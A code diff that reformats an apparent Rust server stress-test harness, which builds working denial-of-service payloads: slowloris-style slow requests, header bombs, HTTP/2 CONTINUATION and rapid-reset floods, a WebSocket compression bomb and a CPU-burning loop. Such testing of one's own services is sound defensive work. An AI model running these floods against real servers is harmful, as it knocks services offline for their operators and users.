@@ -48,20 +48,29 @@ pub(crate) async fn go_on(kind: AttackKind, target: &AttackTarget, tally: &mut O
 }
 
 /// One client's attack, and what the server did about it.
-async fn once(kind: AttackKind, target: &AttackTarget, bomb: &[u8], request: Option<&Request>) -> Result<String> {
+async fn once(
+    kind: AttackKind,
+    target: &AttackTarget,
+    bomb: &[u8],
+    request: Option<&Request>,
+) -> Result<String> {
     if let Some(request) = request {
         return caller::ask(target, request).await;
     }
     match kind {
-        AttackKind::SlowHeads => slow(target, "GET /healthz HTTP/1.1\r\nhost: localhost\r\nx-slow: ").await,
+        AttackKind::SlowHeads => {
+            slow(target, "GET /healthz HTTP/1.1\r\nhost: localhost\r\nx-slow: ").await
+        }
         AttackKind::SlowBodies => {
-            let head =
-                "POST /v1/responses HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n";
+            let head = "POST /v1/responses HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\ncontent-length: 1000000\r\n\r\n";
             slow(target, head).await
         }
         AttackKind::HeaderBombs => {
             let fields = format!("x-bomb: {}\r\n", "a".repeat(1000)).repeat(64);
-            flood(target, b"GET /healthz HTTP/1.1\r\nhost: localhost\r\n", |_| fields.clone().into_bytes()).await
+            flood(target, b"GET /healthz HTTP/1.1\r\nhost: localhost\r\n", |_| {
+                fields.clone().into_bytes()
+            })
+            .await
         }
         AttackKind::Continuations => {
             let begin = [&preface()[..], &frame(HEADERS, END_STREAM, 1, GET)].concat();
@@ -72,7 +81,12 @@ async fn once(kind: AttackKind, target: &AttackTarget, bomb: &[u8], request: Opt
         AttackKind::RapidReset => {
             let burst = |round: u32| {
                 let streams = (100 * round..100 * (round + 1)).map(|stream| 2 * stream + 1);
-                let pair = |stream| [frame(HEADERS, END_STREAM | END_HEADERS, stream, GET), frame(RST_STREAM, 0, stream, &[0, 0, 0, 8])];
+                let pair = |stream| {
+                    [
+                        frame(HEADERS, END_STREAM | END_HEADERS, stream, GET),
+                        frame(RST_STREAM, 0, stream, &[0, 0, 0, 8]),
+                    ]
+                };
                 streams.flat_map(pair).collect::<Vec<_>>().concat()
             };
             flood(target, &preface(), burst).await
@@ -80,7 +94,9 @@ async fn once(kind: AttackKind, target: &AttackTarget, bomb: &[u8], request: Opt
         AttackKind::CompressionBombs => explode(target, bomb).await,
         _ => loop {
             // As much as a thousandth of a second of work, again and again.
-            std::hint::black_box((0..1_000_000_u64).fold(0, |sum, number| sum ^ std::hint::black_box(number)));
+            std::hint::black_box(
+                (0..1_000_000_u64).fold(0, |sum, number| sum ^ std::hint::black_box(number)),
+            );
             tokio::task::yield_now().await;
         },
     }
@@ -112,7 +128,11 @@ async fn slow(target: &AttackTarget, begin: &str) -> Result<String> {
 }
 
 /// Everything at once, until the server has had enough.
-async fn flood(target: &AttackTarget, begin: &[u8], more: impl Fn(u32) -> Vec<u8>) -> Result<String> {
+async fn flood(
+    target: &AttackTarget,
+    begin: &[u8],
+    more: impl Fn(u32) -> Vec<u8>,
+) -> Result<String> {
     let (mut reader, mut writer) = connect(target).await?.into_split();
     let writing = async {
         writer.write_all(begin).await?;
@@ -169,7 +189,12 @@ fn compression_bomb() -> Vec<u8> {
     let mut block = Compressor::new(1).compress(&vec![0; 1 << 20]).unwrap_or_default();
     block.extend_from_slice(&[0, 0, 0xFF, 0xFF]);
     let mut bytes = BytesMut::new();
-    client_frame(&mut bytes, WebSocketFrameHead { fin: true, rsv1: true, opcode: Opcode::Text }, [1, 2, 3, 4], &block.repeat(64));
+    client_frame(
+        &mut bytes,
+        WebSocketFrameHead { fin: true, rsv1: true, opcode: Opcode::Text },
+        [1, 2, 3, 4],
+        &block.repeat(64),
+    );
     bytes.to_vec()
 }
 
